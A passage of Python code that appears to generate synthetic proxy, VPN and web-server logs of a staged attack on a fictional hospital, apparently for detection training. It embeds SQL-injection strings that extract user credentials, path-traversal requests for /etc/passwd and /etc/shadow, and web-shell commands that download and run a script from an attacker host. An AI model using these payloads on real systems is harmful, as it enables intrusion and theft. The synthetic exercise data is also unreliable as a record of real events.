     "TCP_MEM_HIT", 200, 1_402, "application/pkix-crl"),
    ("CONNECT", "settings-win.data.microsoft.com:443", "TCP_TUNNEL", 200, 6_512, "-"),
    ("CONNECT", "update.eset.com:443", "TCP_TUNNEL", 200, 48_300, "-"),
)


def _squid(t: int, elapsed: int, client: str, code: str, status: int, size: int, method: str,
           url: str, user: str, peer: str, mime: str) -> Record:
    """A Squid native access.log line."""
    return (t, f"{t // 1000}.{t % 1000:03d} {elapsed:6d} {client} {code}/{status:03d} {size} "
               f"{method} {url} {user} {peer} {mime}", None)


def _proxy_browse(rng: random.Random, world: World, limit: int) -> list[Record]:
    """A member of staff on site opening a site (and its CDNs), or being refused one."""
    ws, (host, allowed) = rng.choice(world.on_site), _pick(rng, _SITES)
    t, user = _when(rng, _PROFILE_OFFICE), ws.person.login
    if not allowed:
        return [_squid(t, rng.randint(0, 3), ws.ip, "TCP_DENIED", 403, 3_982, "CONNECT",
                       f"{host}:443", user, "HIER_NONE/-", "text/html")][:limit]
    out = []
    for target in [host] + rng.sample(_CDNS, rng.randint(0, 4)):
        out.append(_squid(t, rng.randint(800, 180_000), ws.ip, "TCP_TUNNEL", 200,
                          rng.randint(2_000, 2_500_000), "CONNECT", f"{target}:443", user,
                          f"HIER_DIRECT/{_fixed_ip(target)}", "-"))
        t += rng.randint(30, 2_000)
    return out[:limit]


def _proxy_machine(rng: random.Random, world: World, limit: int) -> list[Record]:
    """A workstation's own traffic: certificate checks, updates (no user)."""
    method, url, code, status, size, mime = rng.choice(_MACHINE_TRAFFIC)
    host = url.split("/")[2] if "://" in url else url.split(":")[0]
    peer = "HIER_NONE/-" if "HIT" in code else f"HIER_DIRECT/{_fixed_ip(host)}"
    return [_squid(_when(rng, _PROFILE_FLAT), rng.randint(3, 400), rng.choice(world.on_site).ip,
                   code, status, _vary(rng, size), method, url, "-", peer, mime)]


def _proxy_access(rng: random.Random, world: World, budget: int,
                  attack: "Attack") -> list[Record]:
    """The outbound proxy: staff browsing, workstations' background traffic."""
    return _fill(budget, lambda limit: (_proxy_browse(rng, world, limit) if rng.random() < 0.8
                                        else _proxy_machine(rng, world, limit)))


# ---------------------------------------------------------------------------------------------
# VPN: FortiGate SSL-VPN, Cisco ASA AnyConnect, OpenVPN
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class VpnSession:
    """One remote-access session."""

    account: VpnAccount
    remote_ip: str
    start: int
    end: int
    tunnel_ip: str
    port: int  # the client's source port
    ident: int  # tunnel id / peer id


# (address, port, protocol, FortiGate service name), weight; 'x' is a random last octet
_DESTINATIONS = {
    "clinical": _table((
        (("10.10.5.21", 443, 6, "HTTPS"), 8), (("10.10.6.10", 443, 6, "HTTPS"), 4),
        (("10.10.0.30", 443, 6, "HTTPS"), 3), (("10.10.0.40", 443, 6, "HTTPS"), 2),
        (("10.10.0.2", 53, 17, "DNS"), 6), (("10.20.x.x", 3389, 6, "RDP"), 2))),
    "office": _table((
        (("10.10.0.30", 443, 6, "HTTPS"), 5), (("10.10.0.40", 443, 6, "HTTPS"), 3),
        (("10.10.0.60", 445, 6, "SMB"), 4), (("10.10.4.10", 443, 6, "HTTPS"), 4),
        (("10.10.0.2", 53, 17, "DNS"), 6))),
    "it": _table((
        (("10.10.x.x", 22, 6, "SSH"), 6), (("10.10.x.x", 3389, 6, "RDP"), 4),
        (("10.10.9.10", 443, 6, "HTTPS"), 3), (("10.10.9.20", 443, 6, "HTTPS"), 2),
        (("10.10.0.5", 389, 6, "LDAP"), 2), (("10.10.0.2", 53, 17, "DNS"), 6))),
    "vendor": _table((
        (("10.10.7.x", 443, 6, "HTTPS"), 5), (("10.10.7.x", 22, 6, "SSH"), 3))),
}
_GROUP_PROFILE = {"SSLVPN-Medecins": ("clinical", 12), "SSLVPN-DSI": ("it", 14),
                  "SSLVPN-Prestataires": ("vendor", 16), "GP-Astreinte": ("clinical", 0),
                  "GP-Teletravail": ("office", 0)}
_GUESSED_LOGINS = ("admin", "administrator", "test", "vpn", "user", "fortinet", "guest",
                   "support", "cisco", "scanner")


def _flow_bytes(rng: random.Random, proto: int) -> tuple[int, int]:
    """Bytes sent and received by one connection (DNS over UDP is small)."""
    if proto == 17:
        return rng.randint(60, 400), rng.randint(90, 900)
    return rng.randint(300, 40_000), rng.randint(500, 2_500_000)


def _destination(rng: random.Random, group: str) -> tuple[str, int, int, str]:
    """Where a session of this group connects to."""
    address, port, proto, service = _pick(rng, _DESTINATIONS[_GROUP_PROFILE[group][0]])
    while "x" in address:
        address = address.replace("x", str(rng.randint(10, 240)), 1)
    return address, port, proto, service


def _sessions(rng: random.Random, accounts: Sequence[VpnAccount], count: int, pool: str,
              reserved: frozenset[str]) -> list[VpnSession]:
    """`count` sessions over the evening (some began before 17:00) with tunnel addresses from
    pool.10-.199, never two live sessions on one address; accounts in `reserved` are left out."""
    accounts = [a for a in accounts if a.login not in reserved]
    drafts = []
    for _ in range(count):
        start = rng.randrange(START_MS - 3 * _HOUR, END_MS - 5 * _MINUTE)
        typical = rng.lognormvariate(math.log(45 * _MINUTE), 0.8)
        length = int(min(6 * _HOUR, max(3 * _MINUTE, typical)))
        drafts.append((start, length, rng.choice(accounts)))
    drafts.sort(key=itemgetter(0))
    free, busy, sessions = list(range(10, 200)), [], []
    for start, length, account in drafts:
        while busy and busy[0][0] <= start:
            heapq.heappush(free, heapq.heappop(busy)[1])
        if start + length <= START_MS or not free:
            continue
        host = heapq.heappop(free)
        heapq.heappush(busy, (start + length, host))
        sessions.append(VpnSession(account, account.home_ip, start, start + length,
                                   f"{pool}.{host}", rng.randint(1024, 65535),
                                   rng.randint(1_000, 99_999)))
    return sessions


def _vpn_log(rng: random.Random, budget: int, sessions: Sequence[VpnSession],
             control: Callable[[random.Random, VpnSession], list[Record]],
             noise: Callable[[random.Random, int], list[Record]], noise_share: float,
             flow: Callable[[random.Random, VpnSession, int, int], list[Record]] | None = None,
             ) -> list[Record]:
    """A VPN device's log: session events, internet noise, then traffic of the sessions to fill
    the budget exactly (noise only, without a flow builder)."""
    out = _clip(r for s in sessions for r in control(rng, s))
    live = [s for s in sessions if min(s.end, END_MS) > max(s.start, START_MS)]
    if not (flow and live):
        return out + _fill(budget - len(out), lambda limit: noise(rng, limit))
    out += _fill(int(budget * noise_share), lambda limit: noise(rng, limit))
    spans = _table((s, min(s.end, END_MS) - max(s.start, START_MS)) for s in live)

    def traffic(limit: int) -> list[Record]:
        s = _pick(rng, spans)
        t = rng.randrange(max(s.start, START_MS), min(s.end, END_MS))
        return flow(rng, s, t, limit)

    return out + _fill(budget - len(out), traffic)


_FGT_DEVICE = 'devname="FGT-CHU-01" devid="FG100FTK21004512"'


def _fgt(t: int, body: str, tag: str | None = None) -> Record:
    """A FortiGate key=value line (local date and time, nanosecond eventtime)."""
    stamp, offset = _fortigate_time(t // 1000)
    return t, f'{stamp} {_FGT_DEVICE} eventtime={t * 1_000_000} tz="{offset}" {body}', tag


def _fgt_login_fail(t: int, ip: str, user: str, tag: str | None = None) -> Record:
    """An SSL-VPN authentication failure."""
    return _fgt(t, f'logid="0101039426" type="event" subtype="vpn" level="alert" vd="root" '
                   f'logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" '
                   f'tunnelid=0 remip={ip} user="{user}" group="N/A" dst_host="N/A" '
                   f'reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"',
                tag)


def _fgt_tunnel(rng: random.Random, s: VpnSession, up: bool, tag: str | None = None) -> Record:
    """Tunnel up (at the session's start) or down (at its end, with duration and bytes)."""
    head = 'type="event" subtype="vpn" level="information" vd="root" '
    who = (f'tunneltype="ssl-tunnel" tunnelid={s.ident} remip={s.remote_ip} '
           f'tunnelip={s.tunnel_ip} user="{s.account.login}" group="{s.account.group}" '
           f'dst_host="N/A" reason="N/A"')
    if up:
        return _fgt(s.start, f'logid="0101039947" {head}logdesc="SSL VPN tunnel up" '
                             f'action="tunnel-up" {who} msg="SSL tunnel established"', tag)
    seconds = (s.end - s.start) // 1000
    return _fgt(s.end, f'logid="0101039948" {head}logdesc="SSL VPN tunnel down" '
                       f'action="tunnel-down" {who} duration={seconds} '
                       f'sentbyte={seconds * rng.randint(2_000, 60_000)} '
                       f'rcvdbyte={seconds * rng.randint(10_000, 400_000)} '
                       f'msg="SSL tunnel shutdown"', tag)


def _fgt_flow(rng: random.Random, s: VpnSession, t: int, destination: tuple[str, int, int, str],
              tag: str | None = None) -> Record:
    """A forward-traffic log of one connection through the tunnel, written when it closes."""
    address, port, proto, service = destination
    seconds = rng.randint(0, 2) if proto == 17 else int(rng.expovariate(1 / 120))
    sent, received = _flow_bytes(rng, proto)
    policy = _GROUP_PROFILE.get(s.account.group, ("", 12))[1]
    return _fgt(t, f'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" '
                   f'srcip={s.tunnel_ip} srcport={rng.randint(49152, 65535)} srcintf="ssl.root" '
                   f'srcintfrole="undefined" dstip={address} dstport={port} dstintf="port3" '
                   f'dstintfrole="lan" srccountry="Reserved" dstcountry="Reserved" '
                   f'sessionid={rng.randint(1_000_000, 99_999_999)} proto={proto} '
                   f'action="{"accept" if proto == 17 else "close"}" policyid={policy} '
                   f'policytype="policy" service="{service}" trandisp="noop" duration={seconds} '
                   f'sentbyte={sent} rcvdbyte={received} sentpkt={sent // 900 + 1} '
                   f'rcvdpkt={received // 1300 + 1} appcat="unscanned" '
                   f'user="{s.account.login}" group="{s.account.group}"', tag)


def _fortigate(rng: random.Random, world: World, budget: int, attack: "Attack") -> list[Record]:
    """SSL-VPN sessions of clinicians, IT staff and vendors, their traffic, and internet
    password guessing against the portal."""
    sessions = _sessions(rng, world.fortigate, min(140, budget // 30), "10.212.134",
                         attack.reserved_logins)

    def control(rng: random.Random, s: VpnSession) -> list[Record]:
        typo = ([_fgt_login_fail(s.start - rng.randint(5_000, 40_000), s.remote_ip,
                                 s.account.login)] if rng.random() < 0.05 else [])
        return typo + [_fgt_tunnel(rng, s, True), _fgt_tunnel(rng, s, False)]

    def noise(rng: random.Random, limit: int) -> list[Record]:
        t, ip = _when(rng, _PROFILE_FLAT), _noise_ip(rng)
        return [_fgt_login_fail(t + i * rng.randint(2_000, 15_000), ip, rng.choice(_GUESSED_LOGINS))
                for i in range(min(limit, rng.randint(1, 4)))]

    def flow(rng: random.Random, s: VpnSession, t: int, limit: int) -> list[Record]:
        return [_fgt_flow(rng, s, t, _destination(rng, s.account.group))]

    return _vpn_log(rng, budget, sessions, control, noise, 0.05, flow)


def _asa(t: int, level: int, message: int, text: str, tag: str | None = None) -> Record:
    """A Cisco ASA syslog line (local time with year)."""
    return t, f"{_asa_time(t // 1000)} asa-chu-01 : %ASA-{level}-{message}: {text}", tag


def _asa_rejected(t: int, user: str, ip: str, tag: str | None = None) -> Record:
    """An AAA authentication rejection."""
    return _asa(t, 6, 113005, f"AAA user authentication Rejected : reason = AAA failure : "
                              f"server = 10.1.1.5 : user = {user} : user IP = {ip}", tag)


def _asa_control(rng: random.Random, s: VpnSession) -> list[Record]:
    """An AnyConnect session: authentication, DAP, parent session, tunnel, address; at the
    end the tunnel closing and the session summary."""
    user, group, ip = s.account.login, s.account.group, s.remote_ip
    who = f"Group <{group}> User <{user}> IP <{ip}>"
    t = s.start
    start = [(6, 113004, f"AAA user authentication Successful : server = 10.1.1.5 : user = {user}"),
             (6, 113008, f"AAA transaction status ACCEPT : user = {user}"),
             (6, 734001, f"DAP: User {user}, Addr {ip}, Connection AnyConnect: The following DAP "
                         f"records were selected for this connection: DfltAccessPolicy"),
             (6, 113039, f"{who} AnyConnect parent session started."),
             (6, 722055, f"{who} Client Type: Cisco AnyConnect VPN Agent for Windows 4.10.08025"),
             (6, 722022, f"{who} TCP SVC connection established without compression"),
             (4, 722051, f"{who} IPv4 Address <{s.tunnel_ip}> IPv6 address <::> assigned to "
                         f"session")]
    out = []
    for level, message, text in start:
        out.append(_asa(t, level, message, text))
        t += rng.randint(5, 400)
    seconds = (s.end - s.start) // 1000
    reason = rng.choice(("User Requested", "User Requested", "Idle Timeout", "Port Preempted"))
    out.append(_asa(s.end, 6, 722023, f"{who} TCP SVC connection terminated without compression"))
    out.append(_asa(s.end + rng.randint(1, 50), 4, 113019,
                    f"Group = {group}, Username = {user}, IP = {ip}, Session disconnected. "
                    f"Session Type: AnyConnect-Parent, Duration: {seconds // 3600}h:"
                    f"{seconds // 60 % 60:02d}m:{seconds % 60:02d}s, Bytes xmt: "
                    f"{seconds * rng.randint(2_000, 60_000)}, Bytes rcv: "
                    f"{seconds * rng.randint(10_000, 300_000)}, Reason: {reason}"))
    return out


def _asa_flow(rng: random.Random, s: VpnSession, t: int, limit: int) -> list[Record]:
    """A connection from the client through the ASA: built, then torn down."""
    address, port, proto, _ = _destination(rng, s.account.group)
    user, conn = s.account.login, rng.randint(10_000_000, 99_999_999)
    sport = rng.randint(49152, 65535)
    kind = "UDP" if proto == 17 else "TCP"
    built_id, down_id = (302015, 302016) if proto == 17 else (302013, 302014)
    seconds = rng.randint(0, 2) if proto == 17 else int(rng.expovariate(1 / 120))
    outside, inside = f"outside:{s.tunnel_ip}/{sport}", f"inside:{address}/{port}"
    teardown = _asa(t + seconds * 1000, 6, down_id,
                    f"Teardown {kind} connection {conn} for {outside}(LOCAL\\{user}) to {inside} "
                    f"duration {seconds // 3600}:{seconds // 60 % 60:02d}:{seconds % 60:02d} "
                    f"bytes {sum(_flow_bytes(rng, proto))}{'' if proto == 17 else ' TCP FINs'} "
                    f"({user})")
    if limit < 2:
        return [teardown]
    return [_asa(t, 6, built_id, f"Built inbound {kind} connection {conn} for {outside} "
                                 f"({s.tunnel_ip}/{sport})(LOCAL\\{user}) to {inside} "
                                 f"({address}/{port}) ({user})"), teardown]


def _cisco_asa(rng: random.Random, world: World, budget: int, attack: "Attack") -> list[Record]:
    """AnyConnect sessions of on-call doctors and teleworkers, their connections, and
    internet password guessing."""
    sessions = _sessions(rng, world.asa, min(100, budget // 30), "10.30.0",
                         attack.reserved_logins)

    def noise(rng: random.Random, limit: int) -> list[Record]:
        t, ip = _when(rng, _PROFILE_FLAT), _noise_ip(rng)
        return [_asa_rejected(t + i * rng.randint(2_000, 15_000), rng.choice(_GUESSED_LOGINS), ip)
                for i in range(min(limit, rng.randint(1, 4)))]

    return _vpn_log(rng, budget, sessions, _asa_control, noise, 0.05, _asa_flow)


def _ovpn(t: int, text: str) -> Record:
    """An OpenVPN server syslog line."""
    return t, f"{_syslog_time(t // 1000)} vpn-dsi-01 ovpn-server[1187]: {text}", None


_OVPN_CHANNEL = ("Control Channel: TLSv1.3, cipher TLSv1.3 TLS_AES_256_GCM_SHA384, peer "
                 "certificate: 2048 bits RSA, signature: RSA-SHA256")


def _ovpn_control(rng: random.Random, s: VpnSession) -> list[Record]:
    """An administrator's session: handshake, authentication, address, hourly renegotiation,
    then exit or timeout."""
    login, peer = s.account.login, f"{s.remote_ip}:{s.port}"
    named = f"{login}/{peer}"
    lines = [f"{peer} TLS: Initial packet from [AF_INET]{peer}, sid={rng.getrandbits(32):08x} "
             f"{rng.getrandbits(32):08x}",
             f"{peer} VERIFY OK: depth=1, CN=CHU-Exemple-VPN-CA",
             f"{peer} VERIFY OK: depth=0, CN={login}",
             f"{peer} peer info: IV_VER=2.6.12", f"{peer} peer info: IV_PLAT=win",
             f"{peer} TLS: Username/Password authentication succeeded for username '{login}'",
             f"{peer} {_OVPN_CHANNEL}",
             f"{peer} [{login}] Peer Connection Initiated with [AF_INET]{peer}",
             f"{named} MULTI_sva: pool returned IPv4={s.tunnel_ip}, IPv6=(Not enabled)",
             f"{named} MULTI: Learn: {s.tunnel_ip} -> {named}",
             f"{named} Data Channel: cipher 'AES-256-GCM', peer-id: {s.ident % 64}"]
    out = [_ovpn(s.start + i * rng.randint(5, 150), text) for i, text in enumerate(lines)]
    for renegotiation in range(s.start + _HOUR, s.end, _HOUR):
        volume, packets = rng.randint(10**6, 10**9), rng.randint(10**3, 10**6)
        out += [_ovpn(renegotiation, f"{named} TLS: soft reset sec=3600/3600 bytes={volume}/-1 "
                                     f"pkts={packets}/0"),
                _ovpn(renegotiation + 40, f"{named} VERIFY OK: depth=1, CN=CHU-Exemple-VPN-CA"),
                _ovpn(renegotiation + 41, f"{named} VERIFY OK: depth=0, CN={login}"),
                _ovpn(renegotiation + 90, f"{named} {_OVPN_CHANNEL}")]
    if rng.random() < 0.7:
        out.append(_ovpn(s.end, f"{named} SIGTERM[soft,remote-exit] received, client-instance "
                                f"exiting"))
    else:
        out += [_ovpn(s.end, f"{named} [{login}] Inactivity timeout (--ping-restart), restarting"),
                _ovpn(s.end + 1, f"{named} SIGUSR1[soft,ping-restart] received, client-instance "
                                 f"restarting")]
    return out


def _ovpn_noise(rng: random.Random, limit: int) -> list[Record]:
    """Internet scanners knocking on the OpenVPN port, sometimes guessing a password."""
    t, ip = _when(rng, _PROFILE_FLAT), _noise_ip(rng)
    peer = f"{ip}:{rng.randint(1024, 65535)}"
    draw = rng.random()
    if draw < 0.5 or limit < 4:
        return [_ovpn(t, f"TLS Error: cannot locate HMAC in incoming packet from [AF_INET]{peer}")]
    if draw < 0.95:
        return [_ovpn(t, f"{peer} TLS: Initial packet from [AF_INET]{peer}, "
                         f"sid={rng.getrandbits(32):08x} {rng.getrandbits(32):08x}"),
                _ovpn(t + 60_000, f"{peer} TLS Error: TLS key negotiation failed to occur within "
                                  f"60 seconds (check your network connectivity)"),
                _ovpn(t + 60_001, f"{peer} TLS Error: TLS handshake failed"),
                _ovpn(t + 60_002, f"{peer} SIGUSR1[soft,tls-error] received, client-instance "
                                  f"restarting")]
    return [_ovpn(t, f"{peer} TLS Auth Error: Auth Username/Password verification failed for "
                     f"peer")]


def _openvpn(rng: random.Random, world: World, budget: int, attack: "Attack") -> list[Record]:
    """The IT administrators' VPN: a few long sessions, and a lot of internet scanning."""
    sessions = _sessions(rng, world.openvpn, min(30, budget // 80), "10.8.0",
                         attack.reserved_logins)
    return _vpn_log(rng, budget, sessions, _ovpn_control, _ovpn_noise, 1.0)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Step:
    """One stage of the attack, as truth.json describes it (lines are added at the end)."""

    id: str
    title: str
    attack: tuple[str, ...]
    entities: dict[str, list[str]]
    indicators: dict[str, list[str]]


@dataclass(frozen=True)
class Attack:
    """The attack's steps, its tagged records per file, and what the background must avoid."""

    steps: tuple[Step, ...]
    records: dict[str, list[Record]]
    victim: VpnAccount
    reserved_logins: frozenset[str]  # accounts with no background VPN or SASL activity
    postfix_ids: frozenset[str]  # queue ids the background must not reuse


def _entities(users: Iterable[str] = (), source_ips: Iterable[str] = (),
              mail_addresses: Iterable[str] = (),
              hosts: Iterable[str] = ()) -> dict[str, list[str]]:
    """The entity lists of a step or incident."""
    return {"users": list(users), "source_ips": list(source_ips),
            "mail_addresses": list(mail_addresses), "hosts": list(hosts)}


_PHISH_SENDER = f"paie@{LOOKALIKE_DOMAIN}"
_PHISH_HOST = f"mail.{LOOKALIKE_DOMAIN}"
_PHISH_SUBJECT = "Mise à jour de votre bulletin de paie"
_PHISH_ATTACHMENT = "Bulletin_de_paie_Novembre_2026.html"


def _phishing(rng: random.Random, t: int, recipients: Sequence[Person],
              taken: set[str]) -> tuple[Step, list[Record]]:
    """Two messages from the look-alike domain to the recipients, DMARC failing, delivered."""
    out, qids = [], []
    half = len(recipients) // 2
    for batch in (recipients[:half], recipients[half:]):
        mail = Mail(_PHISH_HOST, ATTACKER_SERVER, _PHISH_HOST, _PHISH_SENDER,
                    tuple(p.email for p in batch), _PHISH_SUBJECT, (_PHISH_ATTACHMENT,),
                    _message_id(rng, t, _PHISH_HOST), rng.randint(48_000, 60_000),
                    "no signature data", f"{LOOKALIKE_DOMAIN} fail")
        lines, ids = _postfix_message(rng, t, mail, ["sent"] * len(batch), taken, "phishing")
        out += lines
        qids += ids
        t += rng.randint(90, 150) * _SECOND
    step = Step("phishing", "Phishing from a look-alike domain with an HTML attachment",
                ("T1566.001",),
                _entities([p.login for p in recipients], [ATTACKER_SERVER],
                          [_PHISH_SENDER] + [p.email for p in recipients], [_PHISH_HOST]),
                {"postfix_queue_ids": qids, "subjects": [_PHISH_SUBJECT],
                 "attachments": [_PHISH_ATTACHMENT], "domains": [LOOKALIKE_DOMAIN]})
    return step, out


def _vpn_credential_use(rng: random.Random, victim: VpnAccount, fgt_tries: Sequence[str],
                        asa_tries: Sequence[str], down: int
                        ) -> tuple[Step, list[Record], list[Record], VpnSession]:
    """Rejections on the ASA, failures then success on the FortiGate from the attacker's
    server, browsing through the tunnel; returns the step, FortiGate and ASA lines, session."""
    tag = "vpn-credential-use"
    t = _at(19, 6) + rng.randrange(60_000)
    asa = []
    for user in asa_tries:
        asa.append(_asa_rejected(t, user, ATTACKER_SERVER, tag))
        t += rng.randint(8, 25) * _SECOND
    t = _at(19, 12) + rng.randrange(60_000)
    fgt = []
    for user in fgt_tries:
        fgt.append(_fgt_login_fail(t, ATTACKER_SERVER, user, tag))
        t += rng.randint(10, 40) * _SECOND
    session = VpnSession(victim, ATTACKER_SERVER, t + rng.randint(20, 60) * _SECOND, down,
                         ATTACKER_TUNNEL_IP, rng.randint(40_000, 60_000),
                         rng.randint(1_000, 99_999))
    fgt.append(_fgt_tunnel(rng, session, True, tag))
    browsing = (("10.10.0.2", 53, 17, "DNS"), ("10.10.0.30", 443, 6, "HTTPS"),
                ("10.10.0.40", 443, 6, "HTTPS"), ("10.10.0.5", 389, 6, "LDAP"),
                ("10.10.0.60", 445, 6, "SMB"), ("10.10.5.21", 443, 6, "HTTPS"))
    for t in sorted(rng.randrange(session.start, _at(21, 15)) for _ in range(rng.randint(8, 12))):
        fgt.append(_fgt_flow(rng, session, t, rng.choice(browsing), tag))
    fgt.append(_fgt_tunnel(rng, session, False, tag))
    tried = list(dict.fromkeys([*asa_tries, *fgt_tries]))
    step = Step(tag, "VPN password guessing then a tunnel for a phished account from abroad",
                ("T1110", "T1078", "T1133"),
                _entities(tried, [ATTACKER_SERVER, ATTACKER_TUNNEL_IP], [],
                          ["FGT-CHU-01", "asa-chu-01"]),
                {"tunnel_ips": [ATTACKER_TUNNEL_IP]})
    return step, fgt, asa, session


_NIKTO_PROBES = (
    ("/robots.txt", 200, 312), ("/sitemap.xml", 200, 18_422), ("/.env", 404, 0),
    ("/.git/config", 404, 0), ("/.git/HEAD", 404, 0), ("/.svn/entries", 404, 0),
    ("/.htaccess", 403, 199), ("/.htpasswd", 403, 199), ("/.DS_Store", 404, 0),
    ("/wp-login.php", 404, 0), ("/wp-admin/", 404, 0), ("/xmlrpc.php", 404, 0),
    ("/wp-config.php.bak", 404, 0), ("/phpmyadmin/", 404, 0), ("/pma/", 404, 0),
    ("/phpMyAdmin/", 404, 0), ("/mysql/", 404, 0), ("/admin", 302, 231), ("/admin/", 302, 231),
    ("/administrator/", 404, 0), ("/admin.php", 404, 0), ("/login.php", 404, 0),
    ("/config.php.bak", 404, 0), ("/backup.zip", 404, 0), ("/backup.sql", 404, 0),
    ("/db.sql", 404, 0), ("/dump.sql", 404, 0), ("/site.tar.gz", 404, 0),
    ("/server-status", 403, 199), ("/server-info", 404, 0), ("/icons/README", 200, 5_108),
    ("/manual/", 404, 0), ("/cgi-bin/test-cgi", 404, 0), ("/cgi-bin/printenv", 404, 0),
    ("/cgi-bin/php", 404, 0), ("/phpinfo.php", 404, 0), ("/info.php", 404, 0),
    ("/test.php", 404, 0), ("/shell.php", 404, 0), ("/upload.php", 200, 1_834),
    ("/uploads/", 403, 199), ("/download", 400, 226), ("/web.config", 404, 0),
    ("/crossdomain.xml", 404, 0), ("/clientaccesspolicy.xml", 404, 0),
    ("/manager/html", 404, 0), ("/jmx-console/", 404, 0), ("/console/", 404, 0),
    ("/solr/admin/", 404, 0), ("/actuator/env", 404, 0),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 0),
    ("/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", 404, 0), ("/README.md", 404, 0),
    ("/CHANGELOG.txt", 404, 0), ("/install.php", 404, 0), ("/includes/config.inc", 404, 0),
    ("/config/database.yml", 404, 0), ("/composer.json", 404, 0), ("/package.json", 404, 0),
    ("/.well-known/security.txt", 404, 0), ("/webdav/", 404, 0), ("/_profiler/", 404, 0),
    ("/.bash_history", 404, 0), ("/id_rsa", 404, 0), ("/error_log", 404, 0),
    ("/logs/access.log", 404, 0), ("/old/", 404, 0), ("/dev/", 404, 0), ("/staging/", 404, 0),
    ("/api/", 404, 0), ("/api/v1/users", 404, 0), ("/graphql", 404, 0),
    ("/swagger-ui.html", 404, 0),
)
_NIKTO_VERSION = "Nikto/2.5.0"


def _web_scan(rng: random.Random) -> tuple[Step, list[Record]]:
    """Nikto through the Tor exit: random-name 404 checks, then its probe list."""
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    randoms = [(f"/{''.join(rng.choices(letters, k=8))}{ext}", 404, 0)
               for ext in (".php", ".asp", ".cgi", ".pl", ".html", ".txt")]
    probes = [("/", 200, 38_211)] + randoms + rng.sample(_NIKTO_PROBES, len(_NIKTO_PROBES))
    t, test, out = _at(19, 41) + rng.randrange(30_000), 0, []
    for path, status, size in probes:
        test += rng.randint(1, 40)
        agent = f"Mozilla/5.00 ({_NIKTO_VERSION}) (Evasions:None) (Test:{test:06d})"
        method = "HEAD" if rng.random() < 0.1 else "GET"
        out.append(_apache(t, TOR_EXIT, method, path, status,
                           _NOT_FOUND_SIZE if status == 404 else size, "-", agent, tag="web-scan"))
        t += rng.randint(300, 3_500)
    step = Step("web-scan", "Vulnerability scan of the public web site (Nikto, via Tor)",
                ("T1595.002", "T1595.003"), _entities([], [TOR_EXIT], [], [WWW_HOST]),
                {"user_agents": [_NIKTO_VERSION]})
    return step, out


_SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"
_SQLI = (
    ("urgences", 200, 24_810), ("urgences", 200, 24_810),
    ("urgences%27.%29%2C%28%2C%22", 500, 611),
    ("urgences%27%20AND%208812%3D8812--%20bQwe", 200, 24_810),
    ("urgences%27%20AND%208812%3D8813--%20bQwe", 200, 11_204),
    ("urgences%27%20ORDER%20BY%201--%20-", 200, 24_810),
    ("urgences%27%20ORDER%20BY%2010--%20-", 500, 611),
    ("urgences%27%20ORDER%20BY%205--%20-", 500, 611),
    ("urgences%27%20ORDER%20BY%203--%20-", 200, 24_810),
    ("1%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-", 200, 11_390),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2CIFNULL%28CAST%28VERSION%28"
     "%29%20AS%20NCHAR%29%2C0x20%29%2C0x716b786a71%29%2CNULL--%20-", 200, 11_452),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2Cschema_name%2C0x716b786a71"
     "%29%2CNULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-", 200, 11_630),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2Ctable_name%2C0x716b786a71"
     "%29%2CNULL%20FROM%20INFORMATION_SCHEMA.TABLES%20WHERE%20table_schema%3D0x636d73--%20-",
     200, 12_977),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%28login%2C0x3a%2Cpassword%2C0x3a%2Cemail%29"
     "%2CNULL%20FROM%20cms.cms_users--%20-", 200, 13_402),
    ("urgences%27%20AND%20SLEEP%285%29--%20-", 200, 24_810),
)
_TRAVERSAL = (("../../../../etc/passwd", 200, 2_874),
              ("..%2F..%2F..%2F..%2Fetc%2Fshadow", 500, 612),
              ("../../../../var/www/html/config.php", 200, 1_460),
              ("../../../../etc/apache2/sites-enabled/000-default.conf", 200, 1_327),
              ("....//....//....//....//etc/hosts", 200, 243))
_SHELL = "/uploads/shell.php"
_SHELL_COMMANDS = (("whoami", 9), ("id", 54), ("uname%20-a", 112), ("pwd", 14),
                   ("cat%20/etc/passwd", 2_874), ("ls%20-la%20/var/www/html", 1_893),
                   ("cat%20/var/www/html/config.php", 1_460),
                   (f"wget%20http://{ATTACKER_SERVER}/x.sh%20-O%20/tmp/x.sh", 0),
                   ("bash%20/tmp/x.sh", 41))


def _web_exploitation(rng: random.Random) -> tuple[Step, list[Record]]:
    """sqlmap on /recherche and a manual injection via Tor, then path traversal, a web shell
    upload and commands through it from the attacker's server."""
    tag, out = "web-exploitation", []
    firefox = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
    t = _at(19, 52) + rng.randrange(60_000)
    for query, status, size in _SQLI:
        out.append(_apache(t, TOR_EXIT, "GET", f"/recherche?q={query}", status, size, "-",
                           _SQLMAP, tag=tag))
        t += rng.randint(800, 6_000)
    t += rng.randint(60, 180) * _SECOND
    for target in ("/fr/actualites/article.php?id=1'%20OR%20'1'='1",
                   "/fr/actualites/article.php?id=1'%20OR%20'1'='1'--%20"):
        out.append(_apache(t, TOR_EXIT, "GET", target, 200, _vary(rng, 96_000), "-", firefox,
                           tag=tag))
        t += rng.randint(5, 40) * _SECOND
    t = _at(20, 5) + rng.randrange(60_000)
    for path, status, size in _TRAVERSAL:
        out.append(_apache(t, ATTACKER_SERVER, "GET", f"/download?file={path}", status, size, "-",
                           "curl/8.5.0", tag=tag))
        t += rng.randint(10, 70) * _SECOND
    requests = "python-requests/2.32.3"
    t = _at(20, 14) + rng.randrange(30_000)
    out.append(_apache(t, ATTACKER_SERVER, "POST", "/upload.php", 200, 1_846, "-", requests,
                       tag=tag))
